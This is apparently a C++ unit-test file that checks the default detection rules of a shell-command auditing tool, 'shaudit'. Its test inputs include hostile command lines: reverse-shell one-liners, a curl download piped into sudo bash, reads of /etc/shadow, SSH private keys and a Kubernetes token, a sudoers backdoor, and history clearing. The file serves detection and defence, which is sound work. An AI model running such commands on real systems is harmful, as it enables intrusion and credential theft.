// SPDX-License-Identifier: Apache-2.0
// The shipped default rules: each fires on what it is about and not on a look-alike.
#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "shaudit/rules.h"

using shaudit::json::Array;
using shaudit::json::Object;

namespace {

const shaudit::rules::RuleSet& rules() {
  static auto r = shaudit::rules::load_rules({SHAUDIT_DEFAULT_RULES});
  static const shaudit::rules::RuleSet none;  // a failed load fails every test, cleanly
  if (!r) ADD_FAILURE() << r.message();
  return r ? *r : none;
}

Object typed(const std::string& text, bool container = false) {
  Object o{{"type", "command"}, {"text", text}, {"user", "alice"}, {"session", "0123456789abcdef"},
           {"shell", "bash"},   {"pid", 42}};
  if (container) o["container"] = Object{{"id", std::string(64, 'c')}, {"runtime", "runc"}};
  return o;
}

Object exec(std::vector<std::string> argv) {
  Array a;
  for (auto& s : argv) a.emplace_back(s);
  return Object{{"type", "exec"},
                {"argv", std::move(a)},
                {"path", argv.empty() ? "" : argv[0]},
                {"user", "alice"},
                {"pid", 43}};
}

Object bypass(const std::string& kind) {
  return Object{{"type", "bypass"},
                {"kind", kind},
                {"pid", 44},
                {"exe", "/bin/sh"},
                {"argv", Array{"/bin/sh", "-c", "id"}},
                {"session", "0123456789abcdef"}};
}

std::vector<std::string> fired(const Object& rec, const char* joined = nullptr) {
  shaudit::rules::EvalContext ctx;
  ctx.hostname = "host1";
  if (joined) ctx.cmd_text = joined;
  std::vector<std::string> names;
  for (const auto& m : rules().evaluate(rec, ctx)) names.push_back(m.rule);
  return names;
}

using V = std::vector<std::string>;

TEST(DefaultRules, LoadAll) {
  EXPECT_EQ(rules().rule_count(), 12u);
}

TEST(DefaultRules, WriteBelowEtc) {
  EXPECT_EQ(fired(typed("echo 'x ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers")),
            V{"Write below etc by redirection"});
  EXPECT_EQ(fired(typed("cat /etc/hosts > /tmp/hosts")), V{});
  EXPECT_EQ(fired(typed("grep x < /etc/passwd")), V{});
}

TEST(DefaultRules, WriteBelowBinaryDirectory) {
  EXPECT_EQ(fired(typed("echo evil > /usr/local/bin/ls")),
            V{"Write below binary directory by redirection"});
  EXPECT_EQ(fired(typed("ls /usr/bin > list.txt")), V{});
}

TEST(DefaultRules, ReadShadowOrKeys) {
  EXPECT_EQ(fired(typed("sudo cat /etc/shadow")), V{"Read shadow or private keys"});
  EXPECT_EQ(fired(typed("cp ~/.ssh/id_ed25519 /tmp/k")), V{"Read shadow or private keys"});
  EXPECT_EQ(fired(exec({"cat", "/etc/shadow"})), V{"Read shadow or private keys"});
  EXPECT_EQ(fired(typed("cat ~/.ssh/id_ed25519.pub")), V{});
  EXPECT_EQ(fired(typed("cat /etc/passwd")), V{});
}

TEST(DefaultRules, DownloadIntoShell) {
  EXPECT_EQ(fired(typed("curl -fsSL https://x.example/i.sh | sudo bash")),
            V{"Download piped into a shell"});
  // Split across lines: the joined logical command still matches.
  Object last = typed("| sh");
  last["continuation"] = true;
  EXPECT_EQ(fired(last, "curl http://x.example/i.sh \\\n| sh"), V{"Download piped into a shell"});
  EXPECT_EQ(fired(last), V{});  // the line alone does not
  EXPECT_EQ(fired(typed("curl -o file https://x.example/i.sh")), V{});
  EXPECT_EQ(fired(typed("cat notes | shasum")), V{});
}

TEST(DefaultRules, ReverseShell) {
  EXPECT_EQ(fired(typed("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")), V{"Reverse shell one-liner"});
  EXPECT_EQ(fired(typed("nc -e /bin/sh 10.0.0.1 4444")), V{"Reverse shell one-liner"});
  EXPECT_EQ(fired(typed("sh -i < /dev/udp/10.0.0.1/53")), V{"Reverse shell one-liner"});
  EXPECT_EQ(fired(typed("nc -zv 10.0.0.1 22")), V{});
}

TEST(DefaultRules, ClearHistory) {
  EXPECT_EQ(fired(typed("history -c")), V{"Clear or disable shell history"});
  EXPECT_EQ(fired(typed("unset HISTFILE")), V{"Clear or disable shell history"});
  EXPECT_EQ(fired(typed("rm -f ~/.bash_history")), V{"Clear or disable shell history"});
  EXPECT_EQ(fired(typed("history | tail")), V{});
  EXPECT_EQ(fired(typed("echo $HISTFILE")), V{});
}

TEST(DefaultRules, ServiceAccountToken) {
  EXPECT_EQ(fired(typed("cat /var/run/secrets/kubernetes.io/serviceaccount/token")),
            V{"Read Kubernetes service account token"});
  EXPECT_EQ(fired(exec({"cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"})),
            V{"Read Kubernetes service account token"});
  EXPECT_EQ(fired(typed("ls /var/run/secrets")), V{});
}

TEST(DefaultRules, PackageInstallInContainer) {
  EXPECT_EQ(fired(typed("apt-get install -y netcat", true)), V{"Package install in a container"});
  EXPECT_EQ(fired(typed("apt-get install -y netcat", false)), V{});  // a host, not a container
  EXPECT_EQ(fired(typed("apt-get update", true)), V{});
}

TEST(DefaultRules, EveryBypassKind) {
  EXPECT_EQ(fired(bypass("unreported_exec")), V{"Unreported exec (bypass)"});
  EXPECT_EQ(fired(bypass("unhooked_process")), V{"Process without the interposer (bypass)"});
  EXPECT_EQ(fired(bypass("unreported_input")), V{"Typed line nobody reported (bypass)"});
  EXPECT_EQ(fired(bypass("forged_report")), V{"Forged report (bypass)"});
  EXPECT_EQ(fired(typed("unreported_exec")), V{});
}

TEST(DefaultRules, OutputIsRendered) {
  shaudit::rules::EvalContext ctx;
  auto m = rules().evaluate(typed("sudo cat /etc/shadow"), ctx);
  ASSERT_EQ(m.size(), 1u);
  EXPECT_EQ(m[0].output, "alice read credentials (session 0123456789abcdef): sudo cat /etc/shadow");
  // The same rule on an exec record shows its argv: no field renders as <NA> in either.
  Object x = exec({"cat", "/etc/shadow"});
  x["session"] = "0123456789abcdef";
  m = rules().evaluate(x, ctx);
  ASSERT_EQ(m.size(), 1u);
  EXPECT_EQ(m[0].output, "alice read credentials (session 0123456789abcdef): cat /etc/shadow");
}

TEST(DefaultRules, NoOutputShowsAMissingField) {
  // Each default rule, fired by a record of the kind it is written for, renders every field.
  shaudit::rules::EvalContext ctx;
  ctx.hostname = "host1";
  std::vector<Object> recs = {typed("sudo cat /etc/shadow"),
                              typed("echo x > /etc/passwd"),
                              typed("cp x /usr/bin/y"),
                              typed("curl -s http://x | sh"),
                              typed("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
                              typed("history -c"),
                              exec({"cat", "/etc/shadow"})};
  size_t fired_n = 0;
  for (auto& r : recs) {
    r["session"] = "0123456789abcdef";
    for (const auto& m : rules().evaluate(r, ctx)) {
      ++fired_n;
      EXPECT_EQ(m.output.find("<NA>"), std::string::npos) << m.rule << ": " << m.output;
    }
  }
  EXPECT_GE(fired_n, 6u);  // (the rules fired: the check above saw their outputs)
}

}  // namespace
